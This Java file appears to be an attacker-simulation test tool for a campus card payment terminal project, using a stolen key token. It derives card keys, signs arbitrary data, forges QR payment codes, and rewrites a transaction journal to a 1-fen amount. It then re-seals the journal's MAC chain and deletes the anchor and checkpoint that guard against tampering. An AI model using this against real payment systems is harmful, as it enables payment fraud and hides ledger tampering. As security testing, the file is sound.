package com.onecard.pos.sim.attack;

import com.google.protobuf.ByteString;
import com.onecard.pos.qr.CampusQr;
import com.onecard.pos.qr.CampusQrRequest;
import com.onecard.pos.reader.card.CardKeys;
import com.onecard.pos.sync.journal.JournalMac;
import com.onecard.pos.sync.proto.JournalRow;
import com.onecard.pos.terminal.token.KeyToken;
import com.onecard.pos.terminal.token.TokenException;
import com.onecard.pos.terminal.token.TokenSettings;

import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.PrivateKey;
import java.security.SecureRandom;
import java.security.Signature;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Instant;
import java.util.HexFormat;

/**
 * What an attacker does with a stolen terminal's token files and PIN, in a JVM of its own
 * (SOFTHSM2_CONF points at the copied token): everything the token lets anyone do with its keys,
 * using the project's own code. Prints one line of result. Args: library slot pin-file command ...
 * <ul>
 *   <li>{@code extract LABEL}: try to read a key's value out of the token</li>
 *   <li>{@code keya UIDHEX}: a card's key A, computed by the token</li>
 *   <li>{@code sign HEX}: an ECDSA P-256 signature (r ‖ s) of the bytes with the token's only private key</li>
 *   <li>{@code qr TERMINAL SALE FEN}: a payment code naming TERMINAL, MAC'd with the token's QR key</li>
 *   <li>{@code resign DB SEQ}: set row SEQ's amount to 1 fen and re-seal the chain from there with the
 *       token's journal key; remove the anchor file beside the database</li>
 * </ul>
 */
public final class AttackerTool {
    private AttackerTool() {
    }

    public static void main(String[] a) throws Exception {
        Path pin = Path.of(a[2]);
        KeyToken token;
        try {
            token = KeyToken.open(new TokenSettings(Path.of(a[0]), Long.parseLong(a[1]), 0, pin));
        } catch (TokenException e) {
            System.out.println("token refused: " + e.getMessage());
            return;
        }
        HexFormat hex = HexFormat.of();
        switch (a[3]) {
            case "extract" -> {
                var k = token.secretKey(a[4], a[4]);
                System.out.println(k.getEncoded() == null ? "refused: the token does not give out the value of " + a[4]
                        : "VALUE " + hex.formatHex(k.getEncoded()));
            }
            case "keya" -> System.out.println(hex.formatHex(CardKeys.keyA(token.secretKey(KeyToken.CARD_KEY_A, "keya"),
                    hex.parseHex(a[4]))));
            case "sign" -> {
                KeyStore ks = KeyStore.getInstance("PKCS11", token.provider());
                ks.load(null, Files.readString(pin).strip().toCharArray());
                Signature s = Signature.getInstance("SHA256withECDSA", token.provider());
                s.initSign((PrivateKey) ks.getKey(KeyToken.TLS, null));
                s.update(hex.parseHex(a[4]));
                System.out.println(hex.formatHex(p1363(s.sign())));
            }
            case "qr" -> {
                String payload = new CampusQr().create(new CampusQrRequest(a[4], "N01", a[4], a[5], Long.parseLong(a[6]),
                        "NORTH CANTEEN", "BEIJING", null, null, Instant.now().plusSeconds(90),
                        token.secretKey(KeyToken.QR_MAC, "qr"), new SecureRandom()));
                System.out.println(payload);
            }
            case "resign" -> {
                JournalMac mac = new JournalMac(token.secretKey(KeyToken.JOURNAL_MAC, "journal"));
                long from = Long.parseLong(a[5]);
                int n = 0;
                try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + a[4])) {
                    byte[] prev;
                    try (PreparedStatement ps = c.prepareStatement("SELECT mac FROM journal WHERE seq=?")) {
                        ps.setLong(1, from - 1);
                        try (ResultSet rs = ps.executeQuery()) {
                            prev = rs.next() ? rs.getBytes(1) : JournalMac.genesis();
                        }
                    }
                    try (PreparedStatement sel = c.prepareStatement("SELECT seq,kind,sale_id,time_ms,card_uid,account_id,amount_fen,"
                            + "subsidy_fen,cash_fen,mode,reverses_seq,qr_token,meal_period FROM journal WHERE seq>=? ORDER BY seq");
                         PreparedStatement upd = c.prepareStatement("UPDATE journal SET amount_fen=?, subsidy_fen=?, cash_fen=?,"
                                 + " prev_mac=?, mac=? WHERE seq=?")) {
                        sel.setLong(1, from);
                        try (ResultSet rs = sel.executeQuery()) {
                            while (rs.next()) {
                                JournalRow r = JournalRow.newBuilder().setSeq(rs.getLong(1)).setKindValue(rs.getInt(2))
                                        .setSaleId(rs.getString(3)).setTimeMs(rs.getLong(4))
                                        .setCardUid(ByteString.copyFrom(rs.getBytes(5))).setAccountId(rs.getLong(6))
                                        .setAmountFen(rs.getLong(7)).setSubsidyFen(rs.getLong(8)).setCashFen(rs.getLong(9))
                                        .setModeValue(rs.getInt(10)).setReversesSeq(rs.getLong(11)).setQrToken(rs.getString(12))
                                        .setMealPeriod(rs.getString(13)).build();
                                if (r.getSeq() == from) {
                                    r = r.toBuilder().setAmountFen(1).setSubsidyFen(0).setCashFen(1).build();
                                }
                                JournalRow sealed = mac.seal(prev, r);
                                upd.setLong(1, sealed.getAmountFen());
                                upd.setLong(2, sealed.getSubsidyFen());
                                upd.setLong(3, sealed.getCashFen());
                                upd.setBytes(4, sealed.getPrevMac().toByteArray());
                                upd.setBytes(5, sealed.getMac().toByteArray());
                                upd.setLong(6, sealed.getSeq());
                                upd.executeUpdate();
                                prev = sealed.getMac().toByteArray();
                                n++;
                            }
                        }
                    }
                    c.createStatement().executeUpdate("DELETE FROM meta WHERE key='chain_checkpoint'");
                }
                Files.deleteIfExists(Path.of(a[4] + ".anchor"));
                System.out.println("re-sealed " + n + " rows from seq " + from);
            }
            default -> System.out.println("unknown command " + a[3]);
        }
    }

    /** DER ECDSA signature to r ‖ s, 32 bytes each. */
    static byte[] p1363(byte[] der) {
        int i = 2;
        if ((der[1] & 0x80) != 0) {
            i += der[1] & 0x7F;
        }
        byte[] out = new byte[64];
        for (int part = 0; part < 2; part++) {
            int len = der[i + 1];
            int start = i + 2;
            int copy = Math.min(len, 32);
            System.arraycopy(der, start + len - copy, out, part * 32 + 32 - copy, copy);
            i = start + len;
        }
        return out;
    }
}
